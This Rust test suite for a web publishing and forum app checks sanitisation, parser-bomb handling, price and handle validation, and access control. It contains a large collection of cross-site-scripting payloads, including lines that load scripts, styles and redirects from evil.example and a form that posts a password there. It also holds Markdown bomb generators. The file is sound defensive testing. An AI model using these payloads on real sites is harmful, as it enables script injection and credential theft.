//! What is typed into forms to do harm: Markdown that explodes or runs, prices that are none, other people's things.

use crate::on_both;
use crate::support::{Answer, Person, TestApp};
use scraper::{Html, Selector};
use stoa::foundation::viewer::Role;

/// Nothing on the page runs but our own script, and nothing a person wrote looks like a form or a frame.
fn is_tame(what: &str, answer: &Answer) {
    let page = Html::parse_document(&answer.body);
    for element in page.tree.values().filter_map(|node| node.as_element()) {
        // JSON for search engines is a script that no browser runs.
        let runs = element.name() == "script" && element.attr("type") != Some("application/ld+json");
        assert!(!runs || element.attr("nonce").is_some(), "{what}: a script");
        for (name, value) in element.attrs() {
            assert!(!name.starts_with("on") && name != "style" && name != "srcdoc", "{what}: {name}={value}");
            let squeezed: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            let runs = ["javascript:", "vbscript:", "data:"].iter().any(|scheme| squeezed.starts_with(scheme));
            let leads = ["href", "src", "action", "formaction", "xlink:href", "poster", "srcset", "cite", "background"].contains(&name);
            assert!(!(leads && runs), "{what}: {name}={value}");
        }
    }
    for data in page.select(&Selector::parse("script[type='application/ld+json']").unwrap()) {
        assert!(serde_json::from_str::<serde_json::Value>(&data.inner_html()).is_ok(), "{what}: {}", data.inner_html());
    }
    let forbidden = "iframe, object, embed, form, script, style, link, meta, base, svg, math, textarea, button, select, template, noscript, \
        input:not([type=checkbox][disabled])";
    for prose in page.select(&Selector::parse(".prose").unwrap()) {
        let found: Vec<String> = prose.select(&Selector::parse(forbidden).unwrap()).map(|e| e.html()).collect();
        assert!(found.is_empty(), "{what}: {found:?}");
    }
}

const ATTACKS: &str = r#"
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)> <svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe><object data="data:text/html,x"></object><embed src=x>
<a href="javascript:alert(1)">a</a> <a href=" java	script:alert(1)">b</a> <a href="&#106;avascript:alert(1)">c</a> <a href="data:text/html;base64,eA==">d</a>
[a](javascript:alert(1)) [b](<java script:alert(1)>) [c](data:text/html,x) [d](vbscript:x) [e](JaVaScRiPt:alert(1)) ![f](javascript:alert(1)) ![g](data:image/svg+xml,x)
<javascript:alert(1)> [h]: javascript:alert(1)

[h] [i][j]

[j]: data:text/html,x "onclick=alert(1)"

<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<p style="position:fixed;inset:0" onclick="x" id="main" class="site-header">cover</p>
<style>body{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>
<details open ontoggle=alert(1)><summary>x</summary></details><video poster="javascript:alert(1)"><source onerror=alert(1)></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>x</script></template>
<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> <![CDATA[<script>alert(1)</script>]]> <?php x ?>
</div></article></main></body><script>alert(1)</script><plaintext>

```"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
```

[^1]: <img src=x onerror=alert(1)>

# <img src=x onerror=alert(1)> "onmouseover=alert(1)

| <script>x</script> | [x](javascript:x) |
|-|-|
| <b onclick=x>x</b> | x |
"#;

/// Each at least so many bytes as asked for, and not many more.
fn bombs(bytes: usize) -> Vec<(&'static str, String)> {
    let fill = |piece: &str| piece.repeat(bytes / piece.len());
    let nest = |open: &str, close: &str| {
        open.repeat((bytes / (open.len() + close.len())).min(10_000))
            + "x"
            + &close.repeat((bytes / (open.len() + close.len())).min(10_000))
    };
    vec![
        ("quotes", ">".repeat(bytes.min(10_000)) + " x"),
        ("lists", (0..(bytes / 60).min(200)).map(|n| format!("{}- x\n", " ".repeat((n * 2).min(50)))).collect()),
        ("brackets", nest("[", "]")),
        ("brackets open", fill("[")),
        ("links in links", nest("[", "](x)")),
        ("images", nest("![", "](x)")),
        ("emphasis", nest("*a ", " b*")),
        ("stars", fill("*a_")),
        ("html", nest("<div>", "</div>")),
        ("html open", fill("<b>")),
        ("tags broken", fill("<a ")),
        ("links", fill("[a](b) ")),
        ("autolinks", fill("<http:a> ")),
        ("references", fill("[a]: b\n")),
        ("footnotes", fill("[^a] ")),
        ("footnotes defined", fill("[^a]: [^a]\n\n")),
        ("tables", format!("|{}\n|{}\n{}", "a|".repeat(bytes / 40), "-|".repeat(bytes / 40), "|\n".repeat(bytes / 40))),
        ("backticks", (1..400).map(|n| "`".repeat(n) + " ").collect::<String>().chars().take(bytes).collect()),
        ("fences", fill("```rust\nfn\n```\n")),
        ("entities", fill("&#x1F600;")),
        ("headings", fill("# a\n")),
        ("comments", fill("<!-- ")),
    ]
}

async fn publish(owner: &Person, title: &str, source: &str) -> Answer {
    let form = [("title", title), ("source", source), ("access", "public"), ("do", "publish")];
    let answer = owner.post("/write/new", &form).await;
    assert_eq!(answer.status, 303, "{title}: {:?}", answer.texts(".field-error"));
    let page = owner.get(answer.location()).await;
    assert_eq!(page.status, 200, "{title}");
    page
}

on_both!(nothing_that_is_typed_runs_in_an_article_a_reply_a_topic_or_a_bio, |app| {
    let owner = app.owner().await;
    let evil = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";
    let page = publish(&owner, &format!("Attack {evil}"), &format!("{ATTACKS}\n<!--paywall-->\n{ATTACKS}")).await;
    is_tame("article", &page);
    assert!(page.body.contains("cover"), "the words stay");
    let space = [("name", evil), ("slug", "talk"), ("description", evil), ("access", "public")];
    assert_eq!(owner.post("/admin/spaces", &space).await.status, 303);
    let topic = owner.post("/c/talk/new", &[("title", evil), ("source", ATTACKS)]).await;
    assert_eq!(topic.status, 303);
    let here = topic.location().to_owned();
    let reply = owner.post("/replies", &[("target_kind", "topic"), ("target_id", "1"), ("source", ATTACKS), ("to", &here)]).await;
    assert_eq!(reply.status, 303);
    let profile = owner.post("/account/profile", &[("name", "\"><script>x</script>"), ("bio", ATTACKS)]).await;
    assert_eq!(profile.status, 303, "{:?}", profile.texts(".field-error"));
    let cost = [("category", "content"), ("recurrence", "once"), ("amount", "1"), ("day", "2026-03-01"), ("note", evil)];
    assert_eq!(owner.post("/admin/costs", &cost).await.status, 303);
    assert_eq!(owner.post("/admin/tiers", &[("name", "<script>x</script>"), ("description", evil), ("monthly", "1")]).await.status, 303);
    for path in [
        here.as_str(),
        "/",
        "/c/talk",
        "/community",
        "/u/olive",
        "/account/profile",
        "/account/activity",
        "/account",
        "/membership",
        "/admin/costs",
        "/admin/tiers",
        "/admin/spaces",
        "/admin/members",
        "/write",
        "/write/1",
        "/replies/1/edit",
        "/topics/1/edit",
        "/admin",
        "/admin/rows/costs",
    ] {
        let page = owner.get(path).await;
        assert_eq!(page.status, 200, "{path}");
        is_tame(path, &page);
    }
    // The same in what is only shown back.
    for (path, fields) in [
        ("/replies", &[("target_kind", "topic"), ("target_id", "1"), ("source", ATTACKS), ("action", "preview")][..]),
        ("/c/talk/new", &[("title", evil), ("source", ATTACKS), ("action", "preview")]),
        ("/write/new", &[("title", evil), ("source", ATTACKS), ("tags", evil), ("price", evil), ("do", "preview")]),
        ("/admin/costs", &[("amount", evil), ("note", evil), ("day", evil), ("category", evil)]),
        ("/join", &[("email", evil), ("handle", evil), ("name", evil), ("to", evil)]),
    ] {
        is_tame(path, &owner.post(path, fields).await);
    }
});

on_both!(markdown_bombs_are_defused_in_articles_replies_and_bios, |app| {
    let owner = app.owner().await;
    // As large as the form allows for the two that are about size; the rest need no megabyte to be what they are.
    for (name, source) in bombs(100_000) {
        is_tame(name, &publish(&owner, name, &source).await);
    }
    is_tame("100,000 links", &publish(&owner, "links", &"[a](b) ".repeat(100_000)).await);
    is_tame("10,000 deep", &publish(&owner, "deep", &("> ".repeat(10_000) + "x")).await);
    for (name, source) in bombs(30_000) {
        let reply = owner.post("/replies", &[("target_kind", "post"), ("target_id", "1"), ("source", &source), ("to", "/p/quotes")]).await;
        assert_eq!(reply.status, 303, "{name}");
    }
    is_tame("replies", &owner.get("/p/quotes").await);
    for (name, source) in bombs(8_000) {
        let bio = owner.post("/account/profile", &[("name", "Olive"), ("bio", &source)]).await;
        assert_eq!(bio.status, 303, "{name}: {:?}", bio.texts(".field-error"));
        is_tame(name, &owner.get("/u/olive").await);
    }
});

on_both!(what_is_too_long_comes_back_whole_with_the_error_beside_it, |app| {
    let owner = app.owner().await;
    app.post_row("a", "public", None).await;
    let long = "字".repeat(400_000);
    for (path, name, fields) in [
        ("/write/new", "source", &[("title", "T"), ("access", "public")][..]),
        ("/replies", "source", &[("target_kind", "post"), ("target_id", "1")]),
        ("/account/profile", "bio", &[("name", "Olive")]),
    ] {
        let answer = owner.post(path, &[fields, &[(name, long.as_str())]].concat()).await;
        assert_eq!(answer.status, 422, "{path}");
        assert!(answer.texts(&format!("textarea[name={name}]")) == [long.as_str()], "{path} lost what was typed");
        assert_eq!(answer.texts(&format!("#{name}-error")).len(), 1, "{path}");
    }
});

on_both!(prices_that_are_none_are_refused_beside_the_field, |app| {
    let owner = app.owner().await;
    for price in [
        "-1",
        "−1",
        "0",
        "0.00",
        "1.234",
        "1e3",
        "NaN",
        "inf",
        "0x10",
        "1/2",
        "99999999999999999999",
        "90071992547409.92",
        "９９９９９９９９９９９９９９９９９９９９",
        "１.２３４",
        "¥5",
        "1\u{202e}2",
        "<b>1</b>",
        "一",
    ] {
        let article = [("title", "T"), ("source", "a\n\n<!--paywall-->\n\nb"), ("access", "paid"), ("price", price), ("do", "publish")];
        let tier = [("name", "N"), ("monthly", price)];
        let cost = [("category", "content"), ("recurrence", "once"), ("day", "2026-03-01"), ("amount", price)];
        let income = [("ad_day", "2026-03-01"), ("ad_amount", price)];
        for (path, field, form) in [
            ("/write/new", "price", &article[..]),
            ("/admin/tiers", "monthly", &tier),
            ("/admin/costs", "amount", &cost),
            ("/admin/advertising", "ad_amount", &income),
        ] {
            let answer = owner.post(path, form).await;
            assert_eq!(answer.status, 422, "{path} {price}");
            assert_eq!(answer.attribute(&format!("#{field}"), "value").as_deref(), Some(price), "{path}");
            assert_eq!(answer.texts(&format!("#{field}-error")).len(), 1, "{path} {price}");
        }
    }
    let article = [("title", "T"), ("source", "a\n\n<!--paywall-->\n\nb"), ("access", "paid"), ("price", "１２．５"), ("do", "publish")];
    assert_eq!(owner.post("/write/new", &article).await.status, 303);
    assert_eq!(app.count("select price_minor from posts").await, 1250, "full-width digits are digits");
});

on_both!(names_and_handles_cannot_deceive_the_eye, |app| {
    for handle in ["аdmin", "ann\u{202e}", "a\u{200b}nn", "ａｎｎ", "ann\0", "..", "a/b", "-ann", "admin", "deleted-1", "a b"] {
        let form = [("email", "x@example.org"), ("handle", handle), ("password", "correct horse battery")];
        let answer = app.visitor().post("/join", &form).await;
        assert_eq!(answer.status, 422, "{handle:?}");
        assert_eq!(answer.texts("#handle-error").len(), 1, "{handle:?}");
    }
    let ann = app.member("ann").await;
    ann.post("/account/profile", &[("name", "A\u{202e}n\u{200b}n\0 \u{2066}x")]).await;
    assert_eq!(ann.get("/u/ann").await.texts("h1"), ["An\u{fffd}n x".replace("n\u{fffd}n", "nn\u{fffd}")]);
});

async fn everything_of_others(app: &TestApp, person: &Person, signed_in: bool) {
    let draft = app.count("select id from posts where slug = 'a-draft'").await;
    let refused = |status: u16, allowed: &[u16], what: &str| assert!(allowed.contains(&status), "{what}: {status}");
    // A draft is nowhere, under its address and its number; as nothing is.
    for (one, other) in [(format!("/p/{}", "a-draft"), "/p/no-such".to_owned()), (format!("/write/{draft}"), "/write/99999".to_owned())] {
        let (draft, none) = (person.get(&one).await, person.get(&other).await);
        assert_eq!((draft.status, draft.texts("main")), (none.status, none.texts("main")), "{one} and {other}");
        assert!(draft.status == if signed_in || one.starts_with("/p/") { 404 } else { 401 }, "{one}");
    }
    let text = [("title", "Mine"), ("source", "mine"), ("access", "public"), ("version", "1")];
    for path in [format!("/write/{draft}"), "/write/1".to_owned()] {
        for deed in ["save", "publish", "unpublish", "delete"] {
            let answer = person.post(&path, &[&text[..], &[("do", deed)]].concat()).await;
            refused(answer.status, &[401, 403, 404], &format!("{path} {deed}"));
            assert_eq!(answer.texts("textarea"), ["mine"], "what was typed comes back");
        }
    }
    for path in [
        "/replies/1/edit",
        "/replies/1/delete",
        "/replies/1/hide",
        "/replies/1/show",
        "/topics/1/edit",
        "/topics/1/delete",
        "/topics/1/hide",
        "/topics/1/show",
    ] {
        refused(person.post(path, &[("source", "mine"), ("title", "mine")]).await.status, &[401, 403], path);
    }
    for (path, fields) in [
        ("/votes", &[("target_kind", "topic"), ("target_id", "2"), ("value", "1")][..]),
        ("/replies", &[("target_kind", "topic"), ("target_id", "2"), ("source", "x")]),
        ("/replies", &[("target_kind", "post"), ("target_id", "2"), ("source", "x")]),
        ("/ratings", &[("post", "2"), ("stars", "1")]),
        ("/c/inner/new", &[("title", "x"), ("source", "x")]),
    ] {
        refused(person.post(path, fields).await.status, &[401, 403], &format!("{path} {fields:?}"));
    }
    let order = app.count("select cast(count(*) as bigint) from orders").await;
    assert_eq!(order, 1);
    let (reference,): (String,) = stoa::server::db::Queries::one(app.ctx.db(), "select reference from orders", vec![]).await.unwrap();
    for path in [format!("/orders/{reference}"), format!("/orders/{reference}/return")] {
        refused(person.get(&path).await.status, &[401, 404], &path);
    }
    refused(person.post(&format!("/orders/{reference}/pay"), &[]).await.status, &[401, 404], "paying for another");
    for route in stoa::app::routes().list().iter().filter(|route| route.path.starts_with("/admin")) {
        let path = route.path.replace("{table}", "costs").replace("{id}", "1");
        let status =
            if route.method == "GET" { person.get(&path).await.status } else { person.post(&path, &[("role", "owner")]).await.status };
        refused(status, &[401, 403], &format!("{} {path}", route.method));
    }
}

on_both!(what_belongs_to_others_stays_theirs, |app| {
    let (owner, buyer) = (app.owner().await, app.member("buyer").await);
    app.post_row("open", "public", None).await;
    let tier = app.tier_row("inner").await;
    app.post_row("walled", "paid", Some(tier)).await;
    owner.post("/write/new", &[("title", "A draft"), ("slug", "a-draft"), ("source", "s"), ("access", "public"), ("do", "save")]).await;
    for (slug, access) in [("talk", "public"), ("inner", "tier")] {
        let space = [("name", slug), ("slug", slug), ("access", access), ("tier", &tier.to_string())];
        assert_eq!(owner.post("/admin/spaces", &space).await.status, 303);
        assert_eq!(owner.post(&format!("/c/{slug}/new"), &[("title", "T"), ("source", "s")]).await.status, 303);
    }
    assert_eq!(owner.post("/replies", &[("target_kind", "topic"), ("target_id", "1"), ("source", "s")]).await.status, 303);
    let post = app.paid_post(Some(100), None).await.to_string();
    assert_eq!(buyer.post("/checkout", &[("kind", "post"), ("post", &post)]).await.status, 303);
    everything_of_others(&app, &app.visitor(), false).await;
    everything_of_others(&app, &app.member("member").await, true).await;
    everything_of_others(&app, &app.person("author", Role::Author).await, true).await;
    assert_eq!(app.count("select count(*) from replies where deleted_at is null and hidden_at is null").await, 1);
});

on_both!(an_article_taken_back_and_renamed_is_told_by_no_redirect, |app| {
    let owner = app.owner().await;
    let form = [("title", "T"), ("source", "s"), ("access", "public")];
    let write = async |path: &str, slug: &str, version: &str, deed: &str| {
        let answer = owner.post(path, &[&form[..], &[("slug", slug), ("version", version), ("do", deed)]].concat()).await;
        assert_eq!(answer.status, 303, "{slug}");
    };
    write("/write/new", "first", "", "publish").await;
    let version = app.count("select version from posts").await;
    write("/write/1", "second", &version.to_string(), "publish").await;
    assert_eq!(app.visitor().get("/p/first").await.location(), "/p/second");
    write("/write/1", "secret-name", &(version + 1).to_string(), "unpublish").await;
    assert_eq!(app.visitor().get("/p/first").await.location(), "/p/second", "the same as before");
    let visitor = app.visitor().get("/p/second").await;
    assert_eq!(visitor.status, 404);
    assert!(!visitor.body.contains("secret-name"));
    assert_eq!(owner.get("/p/second").await.location(), "/p/secret-name", "its author finds it");
});

on_both!(previews_are_for_members_and_visitors_keep_what_they_typed, |app| {
    let owner = app.owner().await;
    assert_eq!(owner.post("/admin/spaces", &[("name", "Talk"), ("slug", "talk"), ("access", "public")]).await.status, 303);
    app.post_row("open", "public", None).await;
    for path in ["/replies", "/c/talk/new", "/replies/1/edit", "/topics/1/edit", "/write/new"] {
        let fields =
            [("target_kind", "post"), ("target_id", "1"), ("title", "T"), ("source", "*work*"), ("action", "preview"), ("do", "preview")];
        let answer = app.visitor().post(path, &fields).await;
        assert_eq!((answer.status, answer.texts("textarea")), (401, vec!["*work*".to_owned()]), "{path}");
        assert!(answer.texts(".preview em").is_empty(), "{path}");
    }
});
